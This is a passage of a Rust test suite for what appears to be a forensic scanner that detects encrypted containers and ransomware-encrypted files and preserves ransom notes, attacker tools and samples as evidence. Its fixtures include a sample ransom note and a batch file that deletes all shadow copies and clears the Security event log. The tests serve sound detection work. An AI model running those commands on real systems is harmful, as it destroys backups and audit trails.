    fs::write(&key, "passphrase").unwrap();
    crate::helpers::sh(
        "cryptsetup",
        &[
            "luksFormat",
            "-q",
            "--type",
            "luks2",
            "--pbkdf",
            "pbkdf2",
            "--pbkdf-force-iterations",
            "1000",
            "--key-file",
            key.to_str().unwrap(),
            luks.to_str().unwrap(),
        ],
    );
    // An age file made by age, named as an export is: a tar inside.
    let identity = tmp.path().join("id.txt");
    crate::helpers::sh("age-keygen", &["-o", identity.to_str().unwrap()]);
    let recipient = crate::helpers::sh("age-keygen", &["-y", identity.to_str().unwrap()]);
    let plain = tmp.path().join("plain.tar");
    fs::write(&plain, crate::helpers::document(500)).unwrap();
    let aged = dir.join("case-export.tar.age");
    crate::helpers::sh("age", &["-r", recipient.trim(), "-o", aged.to_str().unwrap(), plain.to_str().unwrap()]);
    // A VeraCrypt-like volume: random from its first byte; and a BitLocker volume header.
    let mut random = vec![0u8; 1 << 20];
    encrypt(&mut random, None);
    write(&dir, "vault.hc", &random);
    let mut bde = random.clone();
    bde[3..11].copy_from_slice(b"-FVE-FS-");
    write(&dir, "disk.bde", &bde);
    // The same random bytes under a victim's name are ransomware's doing.
    write(&dir, "紹介状.docx", &random);
    let (_, json, err) = scan_json(&[], &[&dir]);
    let events = json["events"].as_array().unwrap();
    let name = |e: &Value| Path::new(e["path"].as_str().unwrap()).file_name().unwrap().to_string_lossy().into_owned();
    let mut containers: Vec<(String, String)> = events
        .iter()
        .filter(|e| e["event"] == "container")
        .map(|e| (name(e), e["format"].as_str().unwrap().to_string()))
        .collect();
    containers.sort();
    assert_eq!(
        containers,
        [
            ("backup-volume.img".to_string(), "luks".to_string()),
            ("case-export.tar.age".into(), "age".into()),
            ("disk.bde".into(), "bitlocker".into()),
            ("vault.hc".into(), "veracrypt".into())
        ],
        "{err}"
    );
    let encrypted: Vec<String> = events.iter().filter(|e| e["event"] == "encrypted").map(name).collect();
    assert_eq!(encrypted, ["紹介状.docx"]);
    assert_eq!((&json["summary"]["encrypted"], &json["summary"]["containers"]), (&1.into(), &4.into()));
}

#[test]
fn a_keyring_or_a_small_volume_under_a_container_extension_is_no_false_alarm() {
    let tmp = tempfile::tempdir().unwrap();
    // Binary key material under .gpg, a volume too small to judge, random bytes under .tc.
    let mut key = vec![0x99u8, 0x01, 0x0d, 0x04];
    let mut body = vec![0u8; 3000];
    encrypt(&mut body, None);
    key.extend(&body);
    write(tmp.path(), "keyrings/archive.gpg", &key);
    write(tmp.path(), "vol/tiny.hc", &body[..2000]);
    let (code, json, err) = scan_json(&[], &[tmp.path()]);
    assert_eq!(code, 0, "{json} {err}");
}

/// What the volume scan finds beyond the catalogue is kept in the evidence: each distinct note
/// once, the tool, the first encrypted files of each extension under their own names — hashed,
/// on the manifest under its own artefact id, within the budget, and read back on the next scan
/// from the evidence.
#[test]
fn what_the_volume_scan_finds_is_kept_in_the_evidence_within_its_budget() {
    let (tmp, case) = crate::helpers::case_with_notes(0);
    let src = tmp.path().join("src");
    let note = "Your files have been encrypted. To decrypt them write to unlock-9x@example.org and pay in bitcoin.\n";
    for (k, d) in ["外来", "病棟", "検査", "薬剤", "放射線"].iter().enumerate() {
        for i in 0..2 {
            let mut doc = document(100 + i * 7 + k * 3);
            encrypt(&mut doc, None);
            write(&src, &format!("Share/{d}/紹介状{i}.docx.q8zz"), &doc);
        }
        write(&src, &format!("Share/{d}/RESTORE-Q8ZZ.txt"), note.as_bytes());
    }
    write(&src, "Share/外来/RESTORE-Q8ZZ-2.txt", format!("{note}ID: 7F3A-22\n").as_bytes());
    write(
        &src,
        "Share/tools/cleanup.bat",
        b"@echo off\r\nvssadmin delete shadows /all /quiet\r\nwevtutil cl Security\r\n",
    );
    write(&src, "Windows/System32/config/SYSTEM", b"regf");
    shodo()
        .args(["collect", "--os", "windows", "--endpoint", "pc-40", "--case"])
        .arg(&case)
        .arg("--source")
        .arg(&src)
        .assert()
        .code(0);
    let before = crate::helpers::files_of(&src);
    let scan = |budget: &str| {
        let out = shodo()
            .args(["scan", "--json", "--endpoint", "pc-40", "--keep-budget", budget, "--case"])
            .arg(&case)
            .arg("--source")
            .arg(&src)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
        serde_json::from_slice::<Value>(&out.stdout).unwrap()
    };
    // A budget that holds the notes and the tool, and three samples but not the rest.
    let result = scan("20KiB");
    let kept = &result["kept"];
    let files = kept["files"].as_array().unwrap();
    let of = |why: &str| -> Vec<&str> {
        files.iter().filter(|f| f["why"] == why).map(|f| f["path"].as_str().unwrap()).collect()
    };
    assert_eq!(of("ransom_note").len(), 2, "one copy of each distinct note content: {kept}");
    assert_eq!(of("tool"), ["Share/tools/cleanup.bat"], "{kept}");
    let samples = of("encrypted_sample");
    assert!(!samples.is_empty() && samples.len() <= 3, "at most three of one extension: {kept}");
    assert!(samples.iter().all(|p| p.ends_with(".docx.q8zz")), "under their original names: {samples:?}");
    assert!(files.iter().all(|f| f["as_scanned"] == true));
    assert!(kept["bytes"].as_u64().unwrap() <= 20 * 1024, "{kept}");
    assert!(kept["left_out"].as_array().unwrap().iter().all(|l| l["reason"] == "budget"), "{kept}");
    assert!(samples.len() == 3 || !kept["left_out"].as_array().unwrap().is_empty(), "{kept}");

    // On the manifest, in a segment of its own, every copy hashed as the file is.
    let manifest = fs::read_to_string(case.join("endpoints/pc-40/manifest.jsonl")).unwrap();
    let rows: Vec<Value> = manifest.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let kept_rows: Vec<&Value> =
        rows.iter().filter(|r| r["artefacts"][0].as_str().is_some_and(|a| a.starts_with("scan."))).collect();
    assert_eq!(kept_rows.len(), files.len());
    for r in &kept_rows {
        let path = r["path"].as_str().unwrap();
        let original = before.iter().find(|(p, _)| p == path).unwrap_or_else(|| panic!("{path}"));
        assert_eq!(r["sha256"].as_str().unwrap(), crate::helpers::sha256_hex(&original.1), "{path}");
        assert_eq!((r["status"].as_str(), r["zip"].as_str()), (Some("collected"), kept["segment"].as_str()));
        assert_eq!(r["entry"].as_str().unwrap(), format!("fs/{path}"));
    }
    let custody = fs::read_to_string(case.join("custody.jsonl")).unwrap();
    let keep = custody.lines().find(|l| l.contains(r#""action":"scan.keep""#)).expect("scan.keep recorded");
    let keep: Value = serde_json::from_str(keep).unwrap();
    assert_eq!(keep["detail"]["files"], files.len());
    assert_eq!(keep["detail"]["budget"], 20 * 1024);
    assert_eq!(crate::helpers::verify(&case).0, 0, "the case still verifies");
    assert_eq!(crate::helpers::files_of(&src), before, "the source is untouched");

    // The next scan reads them from the evidence and keeps the rest that now fits; nothing twice.
    let result = scan("256MiB");
    let again = result["kept"]["files"].as_array().unwrap();
    assert!(again.iter().all(|f| f["why"] == "encrypted_sample"), "{}", result["kept"]);
    assert_eq!(again.len() + samples.len(), 3, "three samples of .q8zz in all: {}", result["kept"]);
    let records: Vec<Value> = fs::read_to_string(case.join("endpoints/pc-40/findings.jsonl"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let tool = records.iter().find(|r| r["path"] == "Share/tools/cleanup.bat" && r["kind"] == "yara").unwrap();
    assert_eq!(tool["origin"], "evidence", "{tool}");
}
